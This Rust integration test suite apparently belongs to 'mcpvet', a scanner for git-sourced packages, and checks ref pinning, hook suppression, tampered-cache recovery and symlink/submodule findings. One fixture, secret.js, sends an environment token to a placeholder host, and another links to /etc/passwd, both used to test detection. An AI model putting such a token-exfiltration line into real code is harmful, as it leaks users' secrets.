//! git sources, end to end through the `mcpvet` binary: fixture repositories are built in temp
//! folders with the system `git` and fetched over `file://` (never the network). Every git and
//! mcpvet process gets its own global config (`GIT_CONFIG_GLOBAL`), no system config, and a
//! throw-away `HOME`, so the machine's git setup cannot change what is tested.

#![cfg(unix)]

use std::ffi::OsString;
use std::fs;
use std::os::unix::fs::PermissionsExt;
use std::path::{Path, PathBuf};
use std::process::{Command, Output};
use std::time::Duration;

use serde_json::Value;
use tempfile::TempDir;

const CLEAN_CONFIG: &str = "[user]\n\tname = Fixture\n\temail = fixture@example.invalid\n\
                            [init]\n\tdefaultBranch = main\n\
                            [commit]\n\tgpgsign = false\n\
                            [tag]\n\tgpgsign = false\n";

/// Hooks planted wherever a careless git invocation could pick them up.
const HOOKS: &[&str] = &[
    "reference-transaction",
    "post-checkout",
    "post-merge",
    "pre-auto-gc",
    "post-rewrite",
    "post-index-change",
];

/// One test's world: fixture repositories, git configs, a HOME and the mcpvet cache.
struct Sandbox {
    dir: TempDir,
}

impl Sandbox {
    fn new() -> Sandbox {
        let dir = tempfile::tempdir().expect("temp dir");
        let root = dir.path().to_string_lossy().into_owned();
        assert!(
            !root.contains(['@', '#', ' ']),
            "temp dir {root} cannot be used in a git+file spec"
        );
        let sandbox = Sandbox { dir };
        fs::create_dir_all(sandbox.path("home/.config")).expect("home");
        fs::write(sandbox.gitconfig(), CLEAN_CONFIG).expect("gitconfig");
        sandbox
    }

    fn path(&self, rel: &str) -> PathBuf {
        self.dir.path().join(rel)
    }

    /// The global git config used unless a test says otherwise.
    fn gitconfig(&self) -> PathBuf {
        self.path("gitconfig")
    }

    fn cache(&self) -> PathBuf {
        self.path("cache")
    }

    /// Write another global config: the clean one plus `extra`.
    fn write_config(&self, name: &str, extra: &str) -> PathBuf {
        let p = self.path(name);
        fs::write(&p, format!("{CLEAN_CONFIG}{extra}")).expect("gitconfig written");
        p
    }

    /// The environment every git and mcpvet process gets: variables to drop (any `GIT_*` or
    /// `MCPVET_*` from the machine) and variables to set.
    fn isolated_env(&self, gitconfig: &Path) -> (Vec<OsString>, Vec<(&'static str, OsString)>) {
        let remove = std::env::vars_os()
            .map(|(k, _)| k)
            .filter(|k| {
                let k = k.to_string_lossy();
                k.starts_with("GIT_") || k.starts_with("MCPVET_")
            })
            .collect();
        let set = vec![
            ("GIT_CONFIG_GLOBAL", gitconfig.into()),
            ("GIT_CONFIG_NOSYSTEM", "1".into()),
            ("HOME", self.path("home").into()),
            ("XDG_CONFIG_HOME", self.path("home/.config").into()),
            ("LC_ALL", "C".into()),
        ];
        (remove, set)
    }

    /// Isolate a system `git` command from the machine's git settings.
    fn isolate(&self, cmd: &mut Command, gitconfig: &Path) {
        let (remove, set) = self.isolated_env(gitconfig);
        for k in remove {
            cmd.env_remove(k);
        }
        cmd.envs(set);
    }

    /// Run the system git with `gitconfig` as its global config.
    fn git_output(&self, gitconfig: &Path, cwd: &Path, args: &[&str]) -> Output {
        let mut cmd = Command::new("git");
        self.isolate(&mut cmd, gitconfig);
        cmd.current_dir(cwd)
            .args(args)
            .env("GIT_AUTHOR_DATE", "2024-01-01T00:00:00Z")
            .env("GIT_COMMITTER_DATE", "2024-01-01T00:00:00Z");
        cmd.output().expect("system git runs")
    }

    /// Run git with the clean config; it must succeed; returns trimmed stdout.
    fn git(&self, cwd: &Path, args: &[&str]) -> String {
        let out = self.git_output(&self.gitconfig(), cwd, args);
        assert!(
            out.status.success(),
            "git {args:?} failed: {}",
            String::from_utf8_lossy(&out.stderr)
        );
        String::from_utf8_lossy(&out.stdout).trim().to_string()
    }

    fn init_repo(&self, name: &str) -> PathBuf {
        let repo = self.path(name);
        self.git(self.dir.path(), &["init", "-q", &repo.to_string_lossy()]);
        repo
    }

    /// Write `files` into the work tree and commit everything; returns the commit id.
    fn commit(&self, repo: &Path, files: &[(&str, &str)], message: &str) -> String {
        for (name, content) in files {
            let p = repo.join(name);
            if let Some(parent) = p.parent() {
                fs::create_dir_all(parent).expect("fixture dir");
            }
            fs::write(p, content).expect("fixture file");
        }
        self.git(repo, &["add", "-A"]);
        self.git(repo, &["commit", "-q", "-m", message]);
        self.git(repo, &["rev-parse", "HEAD"])
    }

    /// `mcpvet scan SPEC --format json --cache-dir … [extra]` under `gitconfig`.
    fn mcpvet_with(&self, gitconfig: &Path, spec: &str, extra: &[&str]) -> Output {
        let mut cmd = assert_cmd::Command::cargo_bin("mcpvet").expect("mcpvet binary built");
        let (remove, set) = self.isolated_env(gitconfig);
        for k in remove {
            cmd.env_remove(k);
        }
        cmd.envs(set)
            .arg("scan")
            .arg(spec)
            .args(["--format", "json", "--cache-dir"])
            .arg(self.cache())
            .arg("--settings")
            .arg(self.path("no-mcpvet-config.toml"))
            .args(extra)
            .timeout(Duration::from_secs(120));
        cmd.output().expect("mcpvet runs")
    }

    /// A scan that must succeed; returns the report.
    fn scan_ok_with(&self, gitconfig: &Path, spec: &str, extra: &[&str]) -> Value {
        let out = self.mcpvet_with(gitconfig, spec, extra);
        assert_eq!(
            out.status.code(),
            Some(0),
            "scan {spec} {extra:?} failed: {}",
            String::from_utf8_lossy(&out.stderr)
        );
        let report: Value = serde_json::from_slice(&out.stdout).expect("JSON report");
        assert_eq!(report["package"]["ecosystem"], "git", "{report}");
        report
    }

    fn scan_ok(&self, spec: &str, extra: &[&str]) -> Value {
        self.scan_ok_with(&self.gitconfig(), spec, extra)
    }

    /// A scan that must fail with exit 2 and one line on stderr; returns that line.
    fn scan_err_with(&self, gitconfig: &Path, spec: &str, extra: &[&str]) -> String {
        let out = self.mcpvet_with(gitconfig, spec, extra);
        let stderr = String::from_utf8_lossy(&out.stderr).into_owned();
        assert_eq!(
            out.status.code(),
            Some(2),
            "scan {spec} {extra:?} should fail; stderr: {stderr}"
        );
        let lines: Vec<&str> = stderr.lines().filter(|l| !l.trim().is_empty()).collect();
        assert_eq!(lines.len(), 1, "expected one error line, got {stderr:?}");
        lines[0].to_string()
    }

    fn scan_err(&self, spec: &str, extra: &[&str]) -> String {
        self.scan_err_with(&self.gitconfig(), spec, extra)
    }

    /// The cached bare repository (exactly one must exist).
    fn cached_repo(&self) -> PathBuf {
        let repos: Vec<PathBuf> = fs::read_dir(self.cache().join("git"))
            .expect("cache has a git folder")
            .map(|e| e.expect("dir entry").path())
            .filter(|p| p.extension().is_some_and(|e| e == "git"))
            .collect();
        assert_eq!(repos.len(), 1, "expected one cached repository: {repos:?}");
        repos.into_iter().next().expect("one repository")
    }
}

fn spec(repo: &Path, reference: Option<&str>) -> String {
    match reference {
        Some(r) => format!("git+file://{}@{r}", repo.display()),
        None => format!("git+file://{}", repo.display()),
    }
}

fn files(report: &Value) -> Vec<String> {
    report["files"]
        .as_array()
        .expect("files array")
        .iter()
        .map(|f| f["path"].as_str().expect("file path").to_string())
        .collect()
}

fn findings<'a>(report: &'a Value, rule: &str) -> Vec<&'a Value> {
    report["findings"]
        .as_array()
        .expect("findings array")
        .iter()
        .filter(|f| f["rule"] == rule)
        .collect()
}

fn notes(report: &Value) -> Vec<String> {
    report["package"]["notes"]
        .as_array()
        .map(|a| {
            a.iter()
                .filter_map(|n| n.as_str().map(str::to_string))
                .collect()
        })
        .unwrap_or_default()
}

/// Assert the report is of exactly `commit`, pinned and not moving.
fn assert_pinned(report: &Value, commit: &str) {
    let pkg = &report["package"];
    assert_eq!(pkg["commit"], commit, "{pkg}");
    assert_eq!(pkg["digest"], format!("git:{commit}"), "{pkg}");
    assert_eq!(pkg["pinned"], true, "{pkg}");
    assert_eq!(pkg["verified"], true, "{pkg}");
    assert!(
        pkg.get("moving").is_none(),
        "a pinned source is not moving: {pkg}"
    );
}

fn assert_moving(report: &Value, commit: &str) {
    let pkg = &report["package"];
    assert_eq!(pkg["commit"], commit, "{pkg}");
    assert_eq!(pkg["digest"], format!("git:{commit}"), "{pkg}");
    assert_eq!(pkg["pinned"], false, "{pkg}");
    assert_eq!(pkg["moving"], true, "{pkg}");
}

/// A repository with history: c1 (a.js), c2 (+ b.js, tags `light` and annotated `v2`),
/// and a branch `dev` one commit ahead of main (+ dev.js). Returns (repo, c1, c2, dev tip).
fn history_repo(sb: &Sandbox) -> (PathBuf, String, String, String) {
    let repo = sb.init_repo("src");
    let c1 = sb.commit(&repo, &[("a.js", "export const a = 1;\n")], "first");
    let c2 = sb.commit(&repo, &[("b.js", "export const b = 2;\n")], "second");
    sb.git(&repo, &["tag", "light"]);
    sb.git(&repo, &["tag", "-a", "v2", "-m", "release 2"]);
    sb.git(&repo, &["checkout", "-q", "-b", "dev"]);
    let dev = sb.commit(&repo, &[("dev.js", "export const d = 3;\n")], "dev work");
    sb.git(&repo, &["checkout", "-q", "main"]);
    (repo, c1, c2, dev)
}

fn write_hook(path: &Path, marker: &Path) {
    fs::write(path, format!("#!/bin/sh\ntouch '{}'\n", marker.display())).expect("hook written");
    fs::set_permissions(path, fs::Permissions::from_mode(0o755)).expect("hook made executable");
}

/// Install every hook in `HOOKS` into `dir`; each touches `markers/<prefix><hook>`.
fn plant_hooks(dir: &Path, markers: &Path, prefix: &str) {
    fs::create_dir_all(dir).expect("hooks dir");
    for hook in HOOKS {
        write_hook(&dir.join(hook), &markers.join(format!("{prefix}{hook}")));
    }
}

fn markers_in(dir: &Path) -> Vec<String> {
    let mut names: Vec<String> = fs::read_dir(dir)
        .expect("markers dir")
        .map(|e| {
            e.expect("dir entry")
                .file_name()
                .to_string_lossy()
                .into_owned()
        })
        .collect();
    names.sort();
    names
}

// ---------------------------------------------------------------------------------------------
// Refs

#[test]
fn tags_resolve_to_their_commit_and_are_pinned() {
    let sb = Sandbox::new();
    let (repo, _c1, c2, _dev) = history_repo(&sb);
    let tag_object = sb.git(&repo, &["rev-parse", "v2"]);
    assert_ne!(tag_object, c2, "v2 must be an annotated tag");

    for tag in ["light", "v2"] {
        let report = sb.scan_ok(&spec(&repo, Some(tag)), &[]);
        assert_pinned(&report, &c2);
        assert_eq!(report["package"]["version"], tag);
        assert_eq!(files(&report), ["a.js", "b.js"], "{tag}");
        let notes = notes(&report);
        assert!(
            notes
                .iter()
                .any(|n| n.contains(&format!("tag {tag}")) && n.contains(&c2)),
            "{tag}: {notes:?}"
        );
    }

    // The `#REF` form names the same thing.
    let hash_form = format!("git+file://{}#v2", repo.display());
    assert_pinned(&sb.scan_ok(&hash_form, &[]), &c2);
}

#[test]
fn branches_and_the_default_branch_are_moving() {
    let sb = Sandbox::new();
    let (repo, _c1, c2, dev) = history_repo(&sb);

    let report = sb.scan_ok(&spec(&repo, Some("dev")), &[]);
    assert_moving(&report, &dev);
    assert_eq!(files(&report), ["a.js", "b.js", "dev.js"]);
    assert!(
        notes(&report)
            .iter()
            .any(|n| n.contains("dev is a branch") && n.contains(&dev)),
        "{:?}",
        notes(&report)
    );

    let report = sb.scan_ok(&spec(&repo, None), &[]);
    assert_moving(&report, &c2);
    assert_eq!(files(&report), ["a.js", "b.js"]);
    assert!(
        notes(&report)
            .iter()
            .any(|n| n.contains("default branch") && n.contains(&c2)),
        "{:?}",
        notes(&report)
    );
}

#[test]
fn an_older_commit_id_is_fetched_and_pinned() {
    let sb = Sandbox::new();
    let (repo, c1, _c2, _dev) = history_repo(&sb);

    let report = sb.scan_ok(&spec(&repo, Some(&c1)), &[]);
    assert_pinned(&report, &c1);
    assert_eq!(
        files(&report),
        ["a.js"],
        "the tree of the old commit, not of a branch tip"
    );
}

#[test]
fn commit_id_falls_back_to_fetching_branches_when_the_server_refuses_it() {
    let sb = Sandbox::new();
    let (repo, c1, c2, _dev) = history_repo(&sb);
    // A commit no branch or tag reaches.
    let dangling = sb.git(
        &repo,
        &["commit-tree", "HEAD^{tree}", "-p", "HEAD", "-m", "dangling"],
    );

    // First a shallow fetch of a tag: the cache now has a shallow boundary at c2, c1's child.
    assert_pinned(&sb.scan_ok(&spec(&repo, Some("v2")), &[]), &c2);
    let cached = sb.cached_repo();
    assert!(
        cached.join("shallow").exists(),
        "the tag fetch is expected to be shallow"
    );

    // Protocol v0 servers refuse a `want` of a commit that is not a ref tip.
    let v0 = sb.write_config("gitconfig-v0", "[protocol]\n\tversion = 0\n");
    let report = sb.scan_ok_with(&v0, &spec(&repo, Some(&c1)), &[]);
    assert_pinned(&report, &c1);
    assert_eq!(files(&report), ["a.js"]);
    let heads = sb.git(
        &cached,
        &["for-each-ref", "--format=%(refname)", "refs/mcpvet/heads/"],
    );
    assert!(
        heads.lines().any(|l| l == "refs/mcpvet/heads/main"),
        "the fallback (fetch all branches) should have run: {heads:?}"
    );

    let err = sb.scan_err_with(&v0, &spec(&repo, Some(&dangling)), &[]);
    assert!(
        err.contains("not reachable from any branch or tag"),
        "{err}"
    );
}

// ---------------------------------------------------------------------------------------------
// Hooks

#[test]
fn no_hook_ever_runs() {
    let sb = Sandbox::new();
    let (repo, c1, c2, dev) = history_repo(&sb);
    let markers = sb.path("markers");
    fs::create_dir_all(&markers).expect("markers dir");

    // Hooks from the global core.hooksPath, from the source repository, and from a template.
    let global_hooks = sb.path("global-hooks");
    plant_hooks(&global_hooks, &markers, "global-");
    plant_hooks(&repo.join(".git/hooks"), &markers, "source-");
    let template = sb.path("template");
    plant_hooks(&template.join("hooks"), &markers, "template-");
    let hostile_extra = format!(
        "[core]\n\thooksPath = {}\n[init]\n\ttemplateDir = {}\n",
        global_hooks.display(),
        template.display()
    );
    let hostile = sb.write_config("gitconfig-hostile", &hostile_extra);
    // The same, with protocol v0: a commit id takes the fallback path (fetch + update-ref).
    let hostile_v0 = sb.write_config(
        "gitconfig-hostile-v0",
        &format!("{hostile_extra}[protocol]\n\tversion = 0\n"),
    );

    assert_pinned(
        &sb.scan_ok_with(&hostile, &spec(&repo, Some("v2")), &[]),
        &c2,
    );
    assert_moving(
        &sb.scan_ok_with(&hostile, &spec(&repo, Some("dev")), &[]),
        &dev,
    );
    assert_moving(&sb.scan_ok_with(&hostile, &spec(&repo, None), &[]), &c2);
    assert_pinned(
        &sb.scan_ok_with(&hostile_v0, &spec(&repo, Some(&c1)), &[]),
        &c1,
    );
    assert_pinned(
        &sb.scan_ok_with(&hostile, &spec(&repo, Some("v2")), &["--offline"]),
        &c2,
    );
    assert_eq!(
        markers_in(&markers),
        Vec::<String>::new(),
        "hooks ran during mcpvet scans"
    );
    // Nor were the template's hooks copied into the cached repository.
    let cached_hooks: Vec<PathBuf> = fs::read_dir(sb.cached_repo().join("hooks"))
        .map(|rd| rd.map(|e| e.expect("dir entry").path()).collect())
        .unwrap_or_default();
    assert!(
        cached_hooks.is_empty(),
        "hooks in the cached repository: {cached_hooks:?}"
    );

    // Controls: the same hooks do run for plain git, so the check above is not vacuous.
    // 1. core.hooksPath from the global config: a fetch runs `reference-transaction`.
    let scratch = sb.path("scratch");
    let scratch_s = scratch.to_string_lossy().into_owned();
    let source_url = format!("file://{}", repo.display());
    let out = sb.git_output(
        &hostile,
        sb.dir.path(),
        &["init", "-q", "--bare", &scratch_s],
    );
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let fetch = [
        "fetch",
        "-q",
        &source_url,
        "+refs/heads/main:refs/heads/main",
    ];
    let out = sb.git_output(&hostile, &scratch, &fetch);
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert!(
        markers.join("global-reference-transaction").exists(),
        "control: plain git fetch should have run the global hook; markers: {:?}",
        markers_in(&markers)
    );

    // 2. init.templateDir alone: a repository created without `--template=` gets live hooks.
    let template_only = sb.write_config(
        "gitconfig-template",
        &format!("[init]\n\ttemplateDir = {}\n", template.display()),
    );
    let scratch2 = sb.path("scratch2");
    let scratch2_s = scratch2.to_string_lossy().into_owned();
    let out = sb.git_output(
        &template_only,
        sb.dir.path(),
        &["init", "-q", "--bare", &scratch2_s],
    );
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let out = sb.git_output(&template_only, &scratch2, &fetch);
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert!(
        markers.join("template-reference-transaction").exists(),
        "control: the template's hook should have run; markers: {:?}",
        markers_in(&markers)
    );

    // 3. The source repository's own hooks are live for git commands run in it.
    sb.git(&repo, &["update-ref", "refs/heads/control", "HEAD"]);
    assert!(
        markers.join("source-reference-transaction").exists(),
        "control: the source repository's hook should have run; markers: {:?}",
        markers_in(&markers)
    );
}

// ---------------------------------------------------------------------------------------------
// Tree content

#[test]
fn export_ignore_does_not_hide_files() {
    let sb = Sandbox::new();
    let repo = sb.init_repo("src");
    let commit = sb.commit(
        &repo,
        &[
            (
                ".gitattributes",
                "secret.js export-ignore\nlib/** export-ignore\n",
            ),
            ("index.js", "import './secret.js';\n"),
            (
                "secret.js",
                "fetch('https://example.invalid/' + process.env.TOKEN);\n",
            ),
            ("lib/hidden.js", "module.exports = 1;\n"),
        ],
        "with export-ignore",
    );
    let report = sb.scan_ok(&spec(&repo, Some(&commit)), &[]);
    assert_pinned(&report, &commit);
    assert_eq!(
        files(&report),
        [".gitattributes", "index.js", "lib/hidden.js", "secret.js"]
    );
}

#[test]
fn symlinks_and_submodules_become_findings() {
    let sb = Sandbox::new();
    let other = sb.init_repo("other");
    let other_commit = sb.commit(&other, &[("lib.js", "module.exports = 1;\n")], "other");

    let repo = sb.init_repo("src");
    std::os::unix::fs::symlink("/etc/passwd", repo.join("passwd-link")).expect("symlink");
    sb.git(
        &repo,
        &[
            "-c",
            "protocol.file.allow=always",
            "submodule",
            "add",
            "-q",
            &other.to_string_lossy(),
            "vendor/other",
        ],
    );
    let commit = sb.commit(&repo, &[("index.js", "console.log('hi');\n")], "links");
    let tree = sb.git(&repo, &["ls-tree", "-r", "HEAD"]);
    assert!(
        tree.contains("120000 blob") && tree.contains("160000 commit"),
        "{tree}"
    );

    let report = sb.scan_ok(&spec(&repo, Some(&commit)), &[]);
    assert_pinned(&report, &commit);
    let paths = files(&report);
    assert_eq!(paths, [".gitmodules", "index.js"]);

    let links = findings(&report, "archive.symlink");
    assert_eq!(links.len(), 1, "{report}");
    assert_eq!(links[0]["path"], "passwd-link");
    assert_eq!(links[0]["evidence"]["target"], "/etc/passwd");

    let subs = findings(&report, "archive.submodule");
    assert_eq!(subs.len(), 1, "{report}");
    assert_eq!(subs[0]["path"], "vendor/other");
    assert_eq!(subs[0]["evidence"]["commit"], other_commit);
}

// ---------------------------------------------------------------------------------------------
// Cache, offline, errors

#[test]
fn offline_uses_the_cache_and_fails_without_it() {
    let sb = Sandbox::new();
    let (repo, _c1, c2, _dev) = history_repo(&sb);

    let err = sb.scan_err(&spec(&repo, Some("v2")), &["--offline"]);
    assert!(err.contains("offline"), "{err}");

    let online = sb.scan_ok(&spec(&repo, Some("v2")), &[]);
    assert_pinned(&online, &c2);
    let offline = sb.scan_ok(&spec(&repo, Some("v2")), &["--offline"]);
    assert_pinned(&offline, &c2);
    assert_eq!(files(&offline), files(&online));

    // Another ref of the same repository was never fetched.
    let err = sb.scan_err(&spec(&repo, Some("dev")), &["--offline"]);
    assert!(err.contains("offline"), "{err}");
}

#[test]
fn unknown_and_abbreviated_refs_are_errors() {
    let sb = Sandbox::new();
    let (repo, c1, _c2, _dev) = history_repo(&sb);

    let err = sb.scan_err(&spec(&repo, Some("no-such-tag")), &[]);
    assert!(
        err.contains("has no tag or branch") && err.contains("no-such-tag"),
        "{err}"
    );

    let err = sb.scan_err(&spec(&repo, Some(&c1[..7])), &[]);
    assert!(err.contains("full 40-character"), "{err}");
}

/// Make sure every object of `repo` is a loose file (packs are exploded).
fn explode_packs(sb: &Sandbox, repo: &Path) {
    let pack_dir = repo.join("objects/pack");
    let packs: Vec<PathBuf> = fs::read_dir(&pack_dir)
        .map(|rd| rd.map(|e| e.expect("dir entry").path()).collect())
        .unwrap_or_default();
    let moved = sb.path("moved-packs");
    fs::create_dir_all(&moved).expect("moved packs dir");
    for pack in packs
        .iter()
        .filter(|p| p.extension().is_some_and(|e| e == "pack"))
    {
        let name = pack.file_name().expect("pack name");
        let aside = moved.join(name);
        fs::rename(pack, &aside).expect("pack moved aside");
        let _ = fs::remove_file(pack.with_extension("idx"));
        let _ = fs::remove_file(pack.with_extension("rev"));
        let mut cmd = Command::new("git");
        sb.isolate(&mut cmd, &sb.gitconfig());
        let status = cmd
            .arg("--git-dir")
            .arg(repo)
            .args(["unpack-objects", "-q"])
            .stdin(fs::File::open(&aside).expect("pack opened"))
            .status()
            .expect("git unpack-objects runs");
        assert!(status.success(), "unpack-objects failed");
    }
}

fn loose_object(repo: &Path, oid: &str) -> PathBuf {
    repo.join("objects").join(&oid[..2]).join(&oid[2..])
}

#[test]
fn tampered_cache_is_discarded_and_fetched_again() {
    let sb = Sandbox::new();
    let (repo, _c1, c2, _dev) = history_repo(&sb);
    let a_blob = sb.git(&repo, &["rev-parse", "v2:a.js"]);
    let b_blob = sb.git(&repo, &["rev-parse", "v2:b.js"]);

    let first = sb.scan_ok(&spec(&repo, Some("v2")), &[]);
    assert_pinned(&first, &c2);

    // Replace a.js's object with b.js's: a valid object whose content has another name.
    let cached = sb.cached_repo();
    explode_packs(&sb, &cached);
    let victim = loose_object(&cached, &a_blob);
    let donor = loose_object(&cached, &b_blob);
    assert!(
        victim.exists() && donor.exists(),
        "objects should be loose in {}",
        cached.display()
    );
    fs::remove_file(&victim).expect("victim removed");
    fs::copy(&donor, &victim).expect("object replaced");
    let mut cmd = Command::new("git");
    sb.isolate(&mut cmd, &sb.gitconfig());
    let shown = cmd
        .arg("--git-dir")
        .arg(&cached)
        .args(["cat-file", "-p", &a_blob])
        .output()
        .expect("git cat-file runs");
    assert!(
        String::from_utf8_lossy(&shown.stdout).contains("const b"),
        "the tampering should make git return b.js's content for a.js's name"
    );

    // Offline there is nothing to fall back on: an error, not a report of the wrong bytes.
    let err = sb.scan_err(&spec(&repo, Some("v2")), &["--offline"]);
    assert!(err.contains("failed verification"), "{err}");

    // Online the cache is discarded and the ref fetched again.
    let again = sb.scan_ok(&spec(&repo, Some("v2")), &[]);
    assert_pinned(&again, &c2);
    assert_eq!(files(&again), files(&first));
    assert_eq!(
        again["files"], first["files"],
        "same content as the first scan"
    );
    let notes = notes(&again);
    assert!(
        notes
            .iter()
            .any(|n| n.contains("failed verification") && n.contains("discarded")),
        "{notes:?}"
    );

    // And the repaired cache serves offline scans again.
    let offline = sb.scan_ok(&spec(&repo, Some("v2")), &["--offline"]);
    assert_pinned(&offline, &c2);
    assert_eq!(offline["files"], first["files"]);
}
